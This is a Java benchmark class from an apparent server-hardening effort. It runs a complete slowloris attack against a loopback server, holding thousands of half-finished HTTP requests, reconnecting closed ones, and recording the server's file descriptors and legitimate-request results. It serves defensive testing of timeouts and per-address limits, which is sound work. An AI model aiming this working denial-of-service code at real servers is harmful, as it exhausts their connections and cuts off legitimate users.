package dev.taskmanager.benchmarks.server;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.Iterator;
import java.util.Set;

/**
 * Issue 11's third figure: a slowloris attack on a running server, and what it costs the server in
 * file descriptors. Keeps up to N connections open to the server, each sending a request line and then
 * one header line every K seconds and never finishing its head, reopening any the server closes (as an
 * attacker would), from S loopback source addresses (127.0.0.1, 127.0.0.2, ...). Every round it
 * prints how many it holds, how many the server closed, the server's open descriptors (from
 * {@code /proc}, given its pid) and how a legitimate request fares. Bounded: it stops after D seconds.
 *
 * <p>Before the fix, 20,000 such connections outlived the 30 s idle timeout and took every
 * descriptor; now heads are cut after {@code --request-header-timeout} (10 s) and one address holds at
 * most {@code --max-connections-per-address}. Run against {@code bench/hardening-bench.sh}'s server,
 * or any: {@code java -cp benchmarks.jar dev.taskmanager.benchmarks.server.Slowloris PORT SERVER_PID
 * [N=20000] [K=10] [D=60] [S=1]}. Needs N descriptors of its own ({@code ulimit -n}).
 */
public final class Slowloris {
    private Slowloris() {
    }

    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        long serverPid = Long.parseLong(args[1]);
        int target = args.length > 2 ? Integer.parseInt(args[2]) : 20_000;
        int intervalSeconds = args.length > 3 ? Integer.parseInt(args[3]) : 10;
        int durationSeconds = args.length > 4 ? Integer.parseInt(args[4]) : 60;
        int sources = args.length > 5 ? Integer.parseInt(args[5]) : 1;
        byte[] requestLine = "GET /task_manager/list_modules HTTP/1.1\r\nHost: localhost\r\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] headerLine = "X-Slow: 1\r\n".getBytes(StandardCharsets.ISO_8859_1);
        InetSocketAddress server = new InetSocketAddress("127.0.0.1", port);
        Set<SocketChannel> open = new HashSet<>();
        long closedByServer = 0;
        long refused = 0;
        int opened = 0;
        long end = System.nanoTime() + durationSeconds * 1_000_000_000L;
        System.out.printf("slowloris: %d connections, a header line every %d s, %d s, %d source address(es)%n",
                target, intervalSeconds, durationSeconds, sources);
        try (Selector selector = Selector.open()) {
            int round = 0;
            while (System.nanoTime() < end) {
                // top up to the target, as an attacker reconnects what the server closed
                long deadline = System.nanoTime() + 2_000_000_000L;
                while (open.size() < target && System.nanoTime() < deadline) {
                    try {
                        SocketChannel channel = SocketChannel.open();
                        channel.bind(new InetSocketAddress("127.0.0." + (1 + opened % sources), 0));
                        channel.socket().connect(server, 1000);
                        channel.write(ByteBuffer.wrap(requestLine));
                        channel.configureBlocking(false);
                        channel.register(selector, SelectionKey.OP_READ);
                        open.add(channel);
                        opened++;
                    } catch (IOException e) {
                        refused++;
                        if (e.getMessage() != null && e.getMessage().contains("Too many open files")) {
                            break;
                        }
                    }
                }
                // one more header line on every connection still open
                for (Iterator<SocketChannel> it = open.iterator(); it.hasNext(); ) {
                    SocketChannel channel = it.next();
                    try {
                        channel.write(ByteBuffer.wrap(headerLine));
                    } catch (IOException e) {
                        it.remove();
                        closedByServer++;
                        channel.close();
                    }
                }
                // wait out the interval, noticing the connections the server closes
                long roundEnd = System.nanoTime() + intervalSeconds * 1_000_000_000L;
                ByteBuffer sink = ByteBuffer.allocate(4096);
                long now;
                while ((now = System.nanoTime()) < roundEnd && now < end) {
                    selector.select(Math.max(1, (roundEnd - now) / 1_000_000));
                    for (SelectionKey key : selector.selectedKeys()) {
                        SocketChannel channel = (SocketChannel) key.channel();
                        sink.clear();
                        int read;
                        try {
                            read = channel.read(sink);
                        } catch (IOException e) {
                            read = -1;
                        }
                        if (read < 0) {
                            key.cancel();
                            channel.close();
                            if (open.remove(channel)) {
                                closedByServer++;
                            }
                        }
                    }
                    selector.selectedKeys().clear();
                }
                round++;
                System.out.printf("round %d: holding %d, closed by the server %d, not accepted %d, server descriptors %d, "
                                + "legitimate request: %s%n", round, open.size(), closedByServer, refused,
                        Probe.descriptors(serverPid), Probe.get(port, "/task_manager/list_modules", 10_000));
            }
        } finally {
            for (SocketChannel channel : open) {
                channel.close();
            }
        }
    }
}
